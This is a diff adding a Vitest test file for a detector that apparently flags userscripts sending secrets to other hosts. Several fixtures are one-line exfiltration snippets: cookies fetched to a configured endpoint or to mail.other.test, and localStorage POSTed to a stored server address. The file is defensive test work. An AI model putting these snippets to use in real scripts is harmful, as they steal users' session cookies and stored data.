@@ -1,0 +1,47 @@
+import { describe, expect, test } from "vitest";
+import { findIn, userscript } from "../testing/find-in.ts";
+import { capabilityPair } from "./capability-pair.ts";
+
+describe("capability-pair", () => {
+	test.each([
+		[
+			"cookies to an address nobody knows",
+			["medium 5"],
+			userscript(["match https://shop.example/*"], `fetch(window.settings.endpoint+"?c="+document.cookie)`),
+		],
+		[
+			"storage to an address that is stored",
+			["medium 6"],
+			userscript(
+				["match https://shop.example/*", "grant GM_getValue"],
+				`fetch(GM_getValue("server"),{method:"POST",body:JSON.stringify(localStorage)})`,
+			),
+		],
+		[
+			"cookies to another of its sites",
+			["medium 6"],
+			userscript(
+				["match https://shop.example/*", "match https://mail.other.test/*"],
+				`fetch("https://mail.other.test/?c="+document.cookie)`,
+			),
+		],
+	])("finds %s", (_title, expected, code) => {
+		expect(findIn(capabilityPair, code)).toEqual(expected);
+	});
+
+	test.each([
+		[
+			"the page\u2019s own links",
+			userscript(["match https://shop.example/*"], `document.querySelectorAll("a").forEach(a=>fetch(a.href))`),
+		],
+		[
+			"a resolved address without secrets",
+			userscript(
+				["match https://shop.example/*"],
+				`const host=["api","stranger","test"].join(".");fetch("https://"+host+"/v1")`,
+			),
+		],
+	])("leaves alone %s", (_title, code) => {
+		expect(findIn(capabilityPair, code)).toEqual([]);
+	});
+});
